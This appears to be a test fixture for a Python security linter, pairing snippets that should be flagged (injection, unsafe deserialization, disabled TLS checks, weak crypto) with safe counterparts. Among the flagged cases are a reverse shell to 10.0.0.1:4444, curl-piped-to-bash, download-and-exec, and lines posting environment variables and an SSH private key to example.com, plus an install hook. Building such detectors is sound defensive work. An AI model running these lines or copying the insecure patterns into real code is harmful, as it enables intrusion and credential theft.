#+ eval of input
print(eval(input("expression: ")))
#+ exec of a file
exec(open("plugin.py").read())
#+ os.system with f-string
import os
def ping(host):
    os.system(f"ping -c 1 {host}")
#+ os.popen with concatenation
import os
def listing(folder):
    return os.popen("ls " + folder).read()
#+ subprocess shell
import subprocess
def run(command):
    subprocess.run(command, shell=True)
#+ subprocess shell with percent
import subprocess, sys
subprocess.check_output("grep %s log.txt" % sys.argv[1], shell=True)
#+ subprocess getoutput
import subprocess
def who(user):
    return subprocess.getoutput("finger " + user)
#+ shell switch from a dictionary
import subprocess
options = {"shell": True}
def run(command):
    subprocess.Popen(command, **options)
#+ bash -c in a list
import subprocess
def run(text):
    subprocess.run(["bash", "-c", text])
#+ asyncio shell
import asyncio
async def run(command):
    await asyncio.create_subprocess_shell(command)
#+ no import, still a shell
subprocess.call(user_command, shell=True)
#+ request to system
import os
from flask import Flask, request
app = Flask(__name__)
@app.route("/")
def index():
    os.system("echo " + request.args["name"])
    return "ok"
#+ pickle.loads
import pickle
def read(data):
    return pickle.loads(data)
#+ pickle load from socket
import pickle, socket
s = socket.socket()
obj = pickle.loads(s.recv(4096))
#+ dill
import dill
dill.load(open("m.bin", "rb"))
#+ marshal
import marshal
def read(data):
    return marshal.loads(data)
#+ shelve
import shelve
def read(path):
    return shelve.open(path)
#+ yaml.load
import yaml
def read(path):
    return yaml.load(open(path))
#+ yaml loader
import yaml
def read(text):
    return yaml.load(text, Loader=yaml.Loader)
#+ yaml unsafe
import yaml
def read(text):
    return yaml.unsafe_load(text)
#+ jsonpickle
import jsonpickle
def read(text):
    return jsonpickle.decode(text)
#+ torch load
import torch
def read(path):
    return torch.load(path)
#+ numpy allow_pickle
import numpy as np
def read(path):
    return np.load(path, allow_pickle=True)
#+ pandas pickle
import pandas as pd
def read(path):
    return pd.read_pickle(path)
#+ joblib
import joblib
def read(path):
    return joblib.load(path)
#+ remote code
from transformers import AutoModel
AutoModel.from_pretrained("x/y", trust_remote_code=True)
#+ tar
import tarfile
def unpack(path):
    with tarfile.open(path) as tar:
        tar.extractall("/tmp/x")
#+ tar trusted
import tarfile
def unpack(path):
    tarfile.open(path).extractall("out", filter="fully_trusted")
#+ zip slip
import os, zipfile
def unpack(path, folder):
    z = zipfile.ZipFile(path)
    for name in z.namelist():
        with open(os.path.join(folder, name), "wb") as f:
            f.write(z.read(name))
#+ mktemp
import tempfile
name = tempfile.mktemp()
#+ chmod 777
import os
os.chmod("/srv/data", 0o777)
#+ chmod by constants
import os, stat
os.chmod("x", stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO)
#+ path chmod
from pathlib import Path
Path("x").chmod(0o666)
#+ bind all
import socket
s = socket.socket()
s.bind(("0.0.0.0", 80))
#+ bind empty
import socket
s = socket.socket()
s.bind(("", 8080))
#+ flask all interfaces
from flask import Flask
app = Flask(__name__)
app.run(host="0.0.0.0")
#+ telnet
import telnetlib
t = telnetlib.Telnet("host")
#+ ftp
from ftplib import FTP
f = FTP("host")
#+ smtp login
import smtplib
def send(user, password):
    s = smtplib.SMTP("mail.example.com")
    s.login(user, password)
#+ md5
import hashlib
def digest(data):
    return hashlib.md5(data).hexdigest()
#+ hashlib.new
import hashlib
hashlib.new("sha1", b"x")
#+ fast password hash
import hashlib
def store(password):
    return hashlib.sha256(password.encode()).hexdigest()
#+ pbkdf2 rounds
import hashlib
def store(password, salt):
    return hashlib.pbkdf2_hmac("sha256", password, salt, 1000)
#+ des
from Crypto.Cipher import DES
def make(key):
    return DES.new(key, DES.MODE_CBC)
#+ ecb
from Crypto.Cipher import AES
def make(key):
    return AES.new(key, AES.MODE_ECB)
#+ constant iv
from Crypto.Cipher import AES
def make(key):
    return AES.new(key, AES.MODE_CBC, b"0000000000000000")
#+ small rsa
from cryptography.hazmat.primitives.asymmetric import rsa
rsa.generate_private_key(public_exponent=65537, key_size=1024)
#+ cryptography arc4
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms
def make(key):
    return Cipher(algorithms.ARC4(key), mode=None)
#+ random token
import random, string
token = "".join(random.choice(string.ascii_letters) for _ in range(32))
#+ random password function
import random
def generate_password():
    return "".join(random.choices("abc123", k=10))
#+ random otp
import random
otp = random.randint(100000, 999999)
#+ verify false
import requests
requests.get("https://example.com", verify=False)
#+ session verify
import requests
s = requests.Session()
s.verify = False
s.get("https://example.com")
#+ unverified context
import ssl, urllib.request
urllib.request.urlopen("https://example.com", context=ssl._create_unverified_context())
#+ cert none
import ssl
c = ssl.create_default_context()
c.check_hostname = False
c.verify_mode = ssl.CERT_NONE
#+ global unverified
import ssl
ssl._create_default_https_context = ssl._create_unverified_context
#+ aiohttp ssl false
import aiohttp
async def get(url):
    async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(ssl=False)) as s:
        return await s.get(url)
#+ old tls
import ssl
ssl.SSLContext(ssl.PROTOCOL_TLSv1)
#+ minimum version
import ssl
c = ssl.create_default_context()
c.minimum_version = ssl.TLSVersion.TLSv1
#+ paramiko
import paramiko
c = paramiko.SSHClient()
c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
#+ sql f-string
import sqlite3
def find(name):
    c = sqlite3.connect("x").cursor()
    c.execute(f"SELECT * FROM users WHERE name = '{name}'")
#+ sql percent
def find(cursor, name):
    cursor.execute("SELECT * FROM users WHERE name = '%s'" % name)
#+ sql concatenation over lines
def find(cursor, name):
    query = "SELECT * FROM users"
    query += " WHERE name = '" + name + "'"
    cursor.execute(query)
#+ sql format
def find(conn, user_id):
    conn.execute("DELETE FROM users WHERE id = {}".format(user_id))
#+ sqlalchemy text
from sqlalchemy import text
def find(session, name):
    return session.execute(text(f"SELECT * FROM users WHERE name = '{name}'"))
#+ django raw
def find(User, name):
    return User.objects.raw("SELECT * FROM users WHERE name = '%s'" % name)
#+ mark_safe
from django.utils.safestring import mark_safe
def show(comment):
    return mark_safe("<p>" + comment + "</p>")
#+ jinja without autoescape
from jinja2 import Environment
env = Environment()
#+ template from request
from flask import Flask, request, render_template_string
app = Flask(__name__)
@app.route("/hi")
def hi():
    return render_template_string("Hello " + request.args.get("name", ""))
#+ reflected page
from flask import Flask, request
app = Flask(__name__)
@app.route("/hi")
def hi():
    name = request.args.get("name")
    return f"<h1>Hello {name}</h1>"
#+ etree
import xml.etree.ElementTree as ET
def read(data):
    return ET.fromstring(data)
#+ lxml entities
from lxml import etree
parser = etree.XMLParser(resolve_entities=True)
#+ path from request
from flask import Flask, request
app = Flask(__name__)
@app.route("/file")
def file():
    return open("/srv/files/" + request.args["name"]).read()
#+ ldap
def find(conn, user):
    return conn.search_s("dc=example", 2, "(uid=" + user + ")")
#+ xpath
def find(tree, name):
    return tree.xpath("//user[@name='" + name + "']")
#+ ssrf
import requests
from flask import Flask, request
app = Flask(__name__)
@app.route("/fetch")
def fetch():
    return requests.get(request.args["url"], timeout=5).text
#+ redirect
from flask import Flask, redirect, request
app = Flask(__name__)
@app.route("/go")
def go():
    return redirect(request.args["next"])
#+ debug
from flask import Flask
app = Flask(__name__)
app.run(debug=True)
#+ jwt
import jwt
def read(token):
    return jwt.decode(token, options={"verify_signature": False})
#+ assert admin
def delete(user, item):
    assert user.is_admin
    item.delete()
#+ reverse shell
import os, pty, socket
s = socket.socket()
s.connect(("10.0.0.1", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
pty.spawn("/bin/sh")
#+ download and run
import requests
exec(requests.get("https://example.com/x.py", timeout=5).text)
#+ curl to shell
import os
os.system("curl https://example.com/x.sh | bash")
#+ environment away
import os, requests
requests.post("https://example.com", json=dict(os.environ), timeout=5)
#+ ssh key away
import os, requests
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("https://example.com", data=key, timeout=5)
#+ install hook
import os
from setuptools import setup
from setuptools.command.install import install
class Hook(install):
    def run(self):
        os.system("curl https://example.com/x")
        install.run(self)
setup(name="x", cmdclass={"install": Hook})
#+ catastrophic pattern
import re
re.match(r"(a+)+$", "aaaa")
#- literal statement with parameters
def find(cursor, name):
    cursor.execute("SELECT * FROM users WHERE name = ?", (name,))
#- statement of constants
TABLE = "users"
def find(cursor):
    cursor.execute(f"SELECT * FROM {TABLE}")
#- placeholders
def find(cursor, ids):
    marks = ",".join("?" for _ in ids)
    cursor.execute(f"SELECT * FROM users WHERE id IN ({marks})", ids)
#- placeholders by repetition
def find(cursor, ids):
    marks = ", ".join(["?"] * len(ids))
    cursor.execute("SELECT * FROM users WHERE id IN (%s)" % marks, ids)
#- int in a statement
def find(cursor, raw):
    number = int(raw)
    cursor.execute(f"SELECT * FROM users LIMIT {number}")
#- sqlalchemy bound
from sqlalchemy import text
def find(session, name):
    return session.execute(text("SELECT * FROM users WHERE name = :name"), {"name": name})
#- subprocess list
import subprocess
def run(path):
    subprocess.run(["ls", path], check=True)
#- quoted shell word
import os, shlex
def show(path):
    os.system("ls " + shlex.quote(path))
#- shell false
import subprocess
subprocess.run(["git", "status"], shell=False, check=True)
#- literal_eval
import ast
def read(text):
    return ast.literal_eval(text)
#- json
import json
def read(text):
    return json.loads(text)
#- safe yaml
import yaml
def read(text):
    return yaml.safe_load(text)
#- safe loader
import yaml
def read(text):
    return yaml.load(text, Loader=yaml.SafeLoader)
#- weights only
import torch
def read(path):
    return torch.load(path, weights_only=True)
#- numpy load
import numpy as np
def read(path):
    return np.load(path)
#- pickle dump
import pickle
def write(obj, f):
    pickle.dump(obj, f)
#- pickle copy
import pickle
def clone(obj):
    return pickle.loads(pickle.dumps(obj))
#- tar filter
import tarfile
def unpack(path):
    with tarfile.open(path) as tar:
        tar.extractall("out", filter="data")
#- zip extractall
import zipfile
def unpack(path):
    with zipfile.ZipFile(path) as z:
        z.extractall("out")
#- named temporary file
import tempfile
with tempfile.NamedTemporaryFile() as f:
    f.write(b"x")
#- chmod 600
import os
os.chmod("x", 0o600)
#- chmod 755
import os
os.chmod("x", 0o755)
#- bind loopback
import socket
s = socket.socket()
s.bind(("127.0.0.1", 8080))
#- ftp tls
from ftplib import FTP_TLS
f = FTP_TLS("host")
#- smtp tls
import smtplib
def send(user, password):
    s = smtplib.SMTP("mail.example.com")
    s.starttls()
    s.login(user, password)
#- md5 not for security
import hashlib
def etag(data):
    return hashlib.md5(data, usedforsecurity=False).hexdigest()
#- sha256
import hashlib
def digest(data):
    return hashlib.sha256(data).hexdigest()
#- scrypt
import hashlib
def store(password, salt):
    return hashlib.scrypt(password, salt=salt, n=2**14, r=8, p=1)
#- gcm
from Crypto.Cipher import AES
def make(key, nonce):
    return AES.new(key, AES.MODE_GCM, nonce)
#- rsa 3072
from cryptography.hazmat.primitives.asymmetric import rsa
rsa.generate_private_key(public_exponent=65537, key_size=3072)
#- random simulation
import random
def walk(steps):
    position = 0
    for _ in range(steps):
        position += random.choice([-1, 1])
    return position
#- random jitter
import random, time
def retry(delay):
    time.sleep(delay + random.random())
#- secrets token
import secrets
token = secrets.token_urlsafe(32)
#- system random
import random
token = random.SystemRandom().choice("abc")
#- verify on
import requests
requests.get("https://example.com", verify=True, timeout=5)
#- verify with a file
import requests
requests.get("https://example.com", verify="/etc/ca.pem", timeout=5)
#- default context
import ssl
c = ssl.create_default_context()
#- tls 1.2
import ssl
c = ssl.create_default_context()
c.minimum_version = ssl.TLSVersion.TLSv1_2
#- reject policy
import paramiko
c = paramiko.SSHClient()
c.load_system_host_keys()
c.set_missing_host_key_policy(paramiko.RejectPolicy())
#- autoescape
from jinja2 import Environment, select_autoescape
env = Environment(autoescape=select_autoescape())
#- format_html
from django.utils.html import format_html
def show(comment):
    return format_html("<p>{}</p>", comment)
#- mark_safe constant
from django.utils.safestring import mark_safe
BREAK = mark_safe("<br>")
#- template constant
from flask import render_template_string
def hi(name):
    return render_template_string("Hello {{ name }}", name=name)
#- escaped page
import html
from flask import Flask, request
app = Flask(__name__)
@app.route("/hi")
def hi():
    return f"<h1>{html.escape(request.args['name'])}</h1>"
#- etree of a constant
import xml.etree.ElementTree as ET
ET.fromstring("<a/>")
#- etree building
import xml.etree.ElementTree as ET
root = ET.Element("a")
print(ET.tostring(root))
#- defused
import defusedxml.ElementTree as ET
def read(data):
    return ET.fromstring(data)
#- own path
def read(path):
    with open(path) as f:
        return f.read()
#- argv path
import sys
with open(sys.argv[1]) as f:
    print(f.read())
#- checked path
from pathlib import Path
from flask import Flask, abort, request
BASE = Path("/srv/files")
app = Flask(__name__)
@app.route("/file")
def file():
    target = (BASE / request.args["name"]).resolve()
    if not target.is_relative_to(BASE):
        abort(404)
    return target.read_text()
#- secure filename
from flask import Flask, request
from werkzeug.utils import secure_filename
app = Flask(__name__)
@app.route("/file")
def file():
    return open("/srv/" + secure_filename(request.args["name"])).read()
#- allowed host
import requests
from flask import Flask, abort, request
app = Flask(__name__)
ALLOWED = {"https://a.example/", "https://b.example/"}
@app.route("/fetch")
def fetch():
    url = request.args["url"]
    if url not in ALLOWED:
        abort(400)
    return requests.get(url, timeout=5).text
#- fixed host
import requests
from flask import Flask, request
app = Flask(__name__)
@app.route("/fetch")
def fetch():
    return requests.get("https://api.example.com/items/" + request.args["id"], timeout=5).text
#- redirect to own path
from flask import redirect, url_for
def go():
    return redirect(url_for("index"))
#- debug off
from flask import Flask
app = Flask(__name__)
app.run(debug=False)
#- debug from environment
import os
from flask import Flask
app = Flask(__name__)
app.run(debug=os.environ.get("DEBUG") == "1")
#- jwt checked
import jwt
def read(token, key):
    return jwt.decode(token, key, algorithms=["HS256"])
#- assert invariant
def half(n):
    assert n >= 0
    return n // 2
#- assert in a test
def test_admin(user):
    assert user.is_admin
#- socket client
import socket
s = socket.create_connection(("example.com", 80))
s.sendall(b"GET / HTTP/1.0\r\n\r\n")
print(s.recv(100))
#- one variable to its service
import os, requests
requests.get("https://api.example.com", headers={"X-Key": os.environ["API_KEY"]}, timeout=5)
#- plain setup
from setuptools import find_packages, setup
setup(name="x", packages=find_packages())
#- setup with compiled part
import subprocess
from setuptools import setup
from setuptools.command.build_ext import build_ext
class Build(build_ext):
    def run(self):
        subprocess.check_call(["cmake", "."])
        super().run()
setup(name="x", cmdclass={"build_ext": Build})
#- good pattern
import re
re.match(r"^[a-z]+(-[a-z]+)*$", "a-b")
#- download to a file
import urllib.request
urllib.request.urlretrieve("https://example.com/data.csv", "data.csv")
#- environment for a child
import os, subprocess
subprocess.run(["make"], env={**os.environ, "CC": "gcc"}, check=True)
#- execute of an executor
class Command:
    def execute(self, text): return text
Command().execute("select " + input())
#- dictionary named session
session = {}
session["token"] = "x"
#- constant exec name
class Shell:
    def system(self, text): return text
Shell().system("ls " + input())
#- hmac sha256
import hashlib, hmac
def sign(key, data):
    return hmac.new(key, data, hashlib.sha256).hexdigest()
#- compare digest
import hmac
def same(a, b):
    return hmac.compare_digest(a, b)
#- ldap escaped
from ldap.filter import escape_filter_chars
def find(conn, user):
    return conn.search_s("dc=example", 2, "(uid=" + escape_filter_chars(user) + ")")
#- xpath variable
def find(tree, name):
    return tree.xpath("//user[@name=$name]", name=name)
